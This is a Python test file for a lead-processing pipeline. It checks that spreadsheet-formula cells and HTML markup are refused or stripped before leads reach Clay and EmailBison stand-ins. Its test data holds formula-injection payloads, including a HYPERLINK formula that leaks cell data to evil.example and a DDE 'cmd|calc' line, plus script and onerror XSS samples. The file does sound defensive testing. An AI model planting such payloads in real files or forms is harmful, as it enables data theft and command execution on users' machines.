"""Cole cells that could run as code in a spreadsheet or an email never reach Clay or EmailBison.

Table-driven tests of the pure rules (:mod:`workflows.cell_safety`, ``normalize_phone``,
PT2's ``clean_row``), then one client-month through PT1 → PT2 (pushing to a Clay webhook
stand-in) → PT3 → PT4 (the local EmailBison stand-in): no value sent starts with ``=``,
``+``, ``-``, ``@``, a tab or a CR, no markup is sent, and every refused row is counted and
recorded with its reason, file and line.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fix_pipeline import StubServer, fetch, person, run_job, stub_server
from tests.security._pipeline import open_pipeline
from workflows.cell_safety import (
    RejectedRow,
    formula_trigger,
    rejection_report,
    safe_optional_text,
    strip_markup,
    unsafe_email_reason,
    unsafe_text_reason,
)
from workflows.clients import ClientSpec, add_client
from workflows.cole import export_dir
from workflows.formatting import normalize_phone
from workflows.pt2_clay_format import Counts, clean_row
from workflows.standins.emailbison_server import LocalEmailBison
from workflows.standins.synthetic import write_export

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
KEY_ENV = "EMAILBISON_KEY_FORMULA_TEST"
CLIENT = "Acme Insurance"
MONTH = "2026-08"


def is_dangerous(value: Any) -> bool:
    if not isinstance(value, str):
        return False
    return value.lstrip(" ").startswith(DANGEROUS_STARTS) or "<" in value or ">" in value


# -- the pure rules ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "trigger"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "="),
        ("+cmd|' /C calc'!A0", "+"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "@"),
        ("-2+3", "-"),
        ("  =1+1", "="),
        ("\t=1+1", "\t"),
        ("\rJohn", "\r"),
        ("\uff1dcmd", "="),  # full-width equals sign
        ("John", None),
        ("O'Brien-Smith", None),
        ("Mary-Jane", None),
        ("12 Main St", None),
        ("", None),
        ("   ", None),
    ],
)
def test_formula_trigger(value: str, trigger: str | None) -> None:
    assert formula_trigger(value) == trigger


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("first_name", '=HYPERLINK("x")', "first_name starts with '=' (spreadsheet formula)"),
        ("last_name", "+cmd|' /C calc'!A0", "last_name starts with '+' (spreadsheet formula)"),
        ("address_1", "@SUM(A1)", "address_1 starts with '@' (spreadsheet formula)"),
        ("city", "-2+3", "city starts with '-' (spreadsheet formula)"),
        ("first_name", "\tAnn", "first_name starts with a tab (spreadsheet formula)"),
        ("last_name", "\r=1", "last_name starts with a carriage return (spreadsheet formula)"),
        ("city", "Dallas\nTX", "city contains a control character (line feed)"),
        ("last_name", "Lee\x1b[31m", "last_name contains a control character (U+001B)"),
        ("first_name", "Ann", None),
        ("last_name", "Smith-Jones", None),
        ("address_1", "12 Main St #4", None),
        ("city", None, None),
    ],
)
def test_unsafe_text_reason(field: str, value: str | None, reason: str | None) -> None:
    assert unsafe_text_reason(field, value) == reason


@pytest.mark.parametrize(
    ("value", "cleaned"),
    [
        ("<b>Ann</b>", "Ann"),
        ("<script>alert(1)</script>Bea", "alert(1)Bea"),
        ("<<script>script>Cy", "Cy"),
        ("Dee <img src=x onerror=alert(1)>", "Dee"),
        ("a > b < c", "a  b  c"),
        ("  John & Mary ", "John & Mary"),
        (None, None),
    ],
)
def test_strip_markup(value: str | None, cleaned: str | None) -> None:
    assert strip_markup(value) == cleaned


@pytest.mark.parametrize(
    ("email", "refused"),
    [
        ("=cmd@example.com", True),
        ("+1-555@example.com", True),
        ("-x@example.com", True),
        ("ann+news@example.com", False),
        ("ann-lee@example.com", False),
        ("ann@example.com", False),
    ],
)
def test_unsafe_email_reason(email: str, refused: bool) -> None:
    assert (unsafe_email_reason(email) is not None) == refused


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("01/02/1970", "01/02/1970"),
        (" 1970 ", "1970"),
        ("=1+2", None),
        ("-1970", None),
        ("<b>1970</b>", None),
        ("19\t70", None),
        ("", None),
        (None, None),
    ],
)
def test_safe_optional_text(value: str | None, kept: str | None) -> None:
    assert safe_optional_text(value) == kept


@pytest.mark.parametrize(
    ("value", "digits"),
    [
        ("(512) 555-0100", "5125550100"),
        ("+1 512 555 0100", "5125550100"),
        ("1-512-555-0100", "5125550100"),
        ("512.555.0100", "5125550100"),
        ("+44 20 7946 0958", "442079460958"),
        ("555-0100", "5550100"),
        ('=HYPERLINK("tel:1")', None),
        ("-2+3", None),
        ("@555", None),
        ("+", None),
        ("N/A", None),
        ("555", None),
        ("1234567890123456", None),
        (None, None),
    ],
)
def test_normalize_phone(value: str | None, digits: str | None) -> None:
    assert normalize_phone(value) == digits


def raw_row(**cells: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "id": 1,
        "first_name": "Ann",
        "last_name": "Lee",
        "address_1": "1 Oak St",
        "city": "Dallas",
        "state": "TX",
        "zip5": "75001",
        "cell_phone_number": "(512) 555-0100",
        "email_address": "ann@example.com",
        "purchase_date": "08/03/2015",
        "home_value": "$450,000",
        "head_household": "Y",
        "date_of_birth": "01/02/1970",
        "dedupe_key": "k",
    }
    row.update(cells)
    return row


@pytest.mark.parametrize(
    ("cells", "counted", "reason"),
    [
        ({"first_name": '=HYPERLINK("x")'}, "bad_fields", "first_name starts with '='"),
        ({"first_name": "& =cmd"}, "bad_fields", "first_name starts with '='"),
        ({"last_name": "+cmd|' /C calc'!A0"}, "bad_fields", "last_name starts with '+'"),
        ({"address_1": "@SUM(1)"}, "bad_fields", "address_1 starts with '@'"),
        ({"city": "-2+3"}, "bad_fields", "city starts with '-'"),
        ({"first_name": "\t=1+1"}, "bad_fields", "first_name starts with '='"),
        ({"first_name": "An\tn"}, "bad_fields", "first_name contains a control character (tab)"),
        ({"last_name": "<b>=1+1</b>"}, "bad_fields", "last_name starts with '='"),
        ({"email_address": "=cmd@example.com"}, "email_invalid", "email local part starts"),
    ],
)
def test_clean_row_refuses_with_the_reason(
    cells: dict[str, Any], counted: str, reason: str
) -> None:
    counts = Counts()
    rejected: list[RejectedRow] = []

    assert clean_row(raw_row(**cells), 2026, 8, counts, rejected) is None

    assert getattr(counts, counted) == 1
    [row] = rejected
    assert row.raw_lead_id == 1 and row.reason.startswith(reason)


def test_clean_row_neutralises_what_it_keeps() -> None:
    kept = clean_row(
        raw_row(
            first_name="<b>JOHN</b> & Mary",
            last_name="<i>Lee</i>",
            address_1=" 1 Oak St<script>x()</script> ",
            cell_phone_number="=HYPERLINK(0)",
            date_of_birth="@NOW()",
        ),
        2026,
        8,
        Counts(),
    )

    assert kept is not None
    assert (kept.greeting, kept.first_name, kept.last_name) == ("John", "JOHN & Mary", "Lee")
    assert (kept.address_1, kept.cell_phone, kept.date_of_birth) == ("1 Oak Stx()", None, None)


def test_rejection_report_lists_where_the_rows_are() -> None:
    rejected = [RejectedRow(n, "city starts with '-' (spreadsheet formula)") for n in range(150)]

    report = rejection_report(rejected, {0: ("A/2026-08/tx.csv", 2)})

    assert report["rows"] == 150
    assert report["by_reason"] == {"city starts with '-' (spreadsheet formula)": 150}
    assert len(report["examples"]) == 100
    assert report["examples"][0] == {
        "raw_lead_id": 0,
        "file": "A/2026-08/tx.csv",
        "row": 2,
        "reason": "city starts with '-' (spreadsheet formula)",
    }


# -- end to end: nothing dangerous leaves -----------------------------------------------------


def row(first: str, last: str, email: str, **cells: str) -> list[str]:
    """A Cole row (13 cells) for a Texas homeowner who renews in August."""
    values = person(first, last, cells.pop("address", "1 Oak St"), "75001", email=email)
    for index, name in ((3, "city"), (6, "phone"), (12, "dob")):
        if name in cells:
            values[index] = cells.pop(name)
    assert not cells, cells
    return values


HOSTILE_ROWS = [
    row("Ann", "Lee", "ann.lee@example.com"),  # line 2: clean
    row("<b>Bea</b>", "<i>Cruz</i>", "bea@example.com", address="2 Oak St<script>x</script>"),
    row('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "Doe", "x1@example.com"),  # 4
    row("Cal", "+cmd|' /C calc'!A0", "x2@example.com"),  # 5
    row("Dee", "Ray", "x3@example.com", address="@SUM(1+1)*cmd|' /C calc'!A0"),  # 6
    row("Eve", "Fox", "x4@example.com", city="-2+3"),  # 7
    row("\t=Gus", "Hay", "x5@example.com"),  # 8
    row("Ida", "\r=1+1", "x6@example.com"),  # 9-10: the quoted CR ends a line in the file
    row("\uff1dcmd", "Jay", "x7@example.com"),  # 11
    row("Kim", "Lam", "=cmd@example.com"),  # 12
    row("Max", "Ng", "-max@example.com"),  # 13
    row("Ona", "Poe", "ona@example.com", phone='=HYPERLINK("tel:1")', dob="=1+2"),  # 14
    row("Pia", "Qui", "pia@example.com", phone="+1 (512) 555-0199"),  # 15
    row("\tRay", "Sun\r", "ray@example.com"),  # 16: surrounding whitespace is only trimmed
]
EXPECTED_REASONS = {
    4: "first_name starts with '=' (spreadsheet formula)",
    5: "last_name starts with '+' (spreadsheet formula)",
    6: "address_1 starts with '@' (spreadsheet formula)",
    7: "city starts with '-' (spreadsheet formula)",
    8: "first_name starts with '=' (spreadsheet formula)",
    9: "last_name starts with '=' (spreadsheet formula)",
    11: "first_name starts with '=' (spreadsheet formula)",
    12: "email local part starts with '=' (spreadsheet formula)",
    13: "email local part starts with '-' (spreadsheet formula)",
}


@pytest.fixture
def bison(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[LocalEmailBison, str]]:
    server = LocalEmailBison()
    server.start()
    key = f"eb-{secrets.token_hex(8)}"
    server.add_workspace(key)
    monkeypatch.setenv(KEY_ENV, key)
    try:
        yield server, key
    finally:
        server.stop()


@pytest.fixture
def clay() -> Iterator[StubServer]:
    with stub_server(lambda request: (200, {"ok": True})) as server:
        yield server


def write_hostile_export(inbox: Path) -> None:
    folder = export_dir(inbox, CLIENT, MONTH)
    folder.mkdir(parents=True)
    write_export(folder / "tx.csv", HOSTILE_ROWS)


async def test_formula_cells_never_reach_clay_or_emailbison(
    database_url: str,
    tmp_path: Path,
    bison: tuple[LocalEmailBison, str],
    clay: StubServer,
) -> None:
    server, key = bison
    inbox = tmp_path / "inbox"
    write_hostile_export(inbox)
    async with open_pipeline(
        database_url,
        inbox,
        emailbison_allow_http_loopback=True,
        clay_webhook_url=f"{clay.url}/hooks/t",
    ) as orch:
        async with orch.pool.connection() as conn:
            await add_client(
                conn,
                ClientSpec(
                    name=CLIENT,
                    tier=100,
                    licensed_states=["TX"],
                    approved_zips=["75001"],
                    emailbison_url=server.base_url,
                    emailbison_key_env=KEY_ENV,
                ),
            )
        payload = {"client": CLIENT, "month": MONTH}
        assert (await run_job(orch, "pt1", payload)).status == "succeeded"
        pt2 = await run_job(orch, "pt2", {**payload, "push_to_clay": True})
        assert pt2.status == "succeeded", pt2.runs
        assert (await run_job(orch, "pt3", payload)).status == "succeeded"
        pt4 = await run_job(orch, "pt4", payload)
        assert pt4.status == "succeeded", pt4.runs
        cleaned = await fetch(orch, "SELECT * FROM cleaned_leads ORDER BY email")
        [counts] = await fetch(orch, "SELECT bad_fields, email_invalid FROM monthly_counts")

    report = pt2.output["unsafe_cells"]
    assert report["rows"] == len(EXPECTED_REASONS)
    assert {e["row"]: e["reason"] for e in report["examples"]} == EXPECTED_REASONS
    assert {e["file"] for e in report["examples"]} == {"Acme_Insurance/2026-08/tx.csv"}
    assert counts == {"bad_fields": 7, "email_invalid": 2}

    assert [c["email"] for c in cleaned] == [
        "ann.lee@example.com",
        "bea@example.com",
        "ona@example.com",
        "pia@example.com",
        "ray@example.com",
    ]
    by_email = {c["email"]: c for c in cleaned}
    bea, ray = by_email["bea@example.com"], by_email["ray@example.com"]
    assert (bea["greeting_name"], bea["last_name"], bea["address_1"]) == (
        "Bea",
        "Cruz",
        "2 Oak Stx",
    )
    assert (ray["greeting_name"], ray["last_name"]) == ("Ray", "Sun")
    assert by_email["ona@example.com"]["cell_phone"] is None
    assert by_email["ona@example.com"]["date_of_birth"] is None
    assert by_email["pia@example.com"]["cell_phone"] == "5125550199"
    assert not [(c["email"], k, v) for c in cleaned for k, v in c.items() if is_dangerous(v)]

    sent_to_clay = [request.body for request in clay.requests]
    assert len(sent_to_clay) == 5
    assert not [v for body in sent_to_clay for v in body.values() if is_dangerous(v)]

    leads = server.leads(key)
    assert len(leads) == 5
    sent_to_bison = [
        value
        for lead in leads
        for value in (
            lead.get("first_name"),
            lead.get("last_name"),
            lead.get("email"),
            *(variable.get("value") for variable in lead.get("custom_variables") or []),
        )
    ]
    assert "Bea" in sent_to_bison and "5125550199" in sent_to_bison
    assert not [v for v in sent_to_bison if is_dangerous(v)]
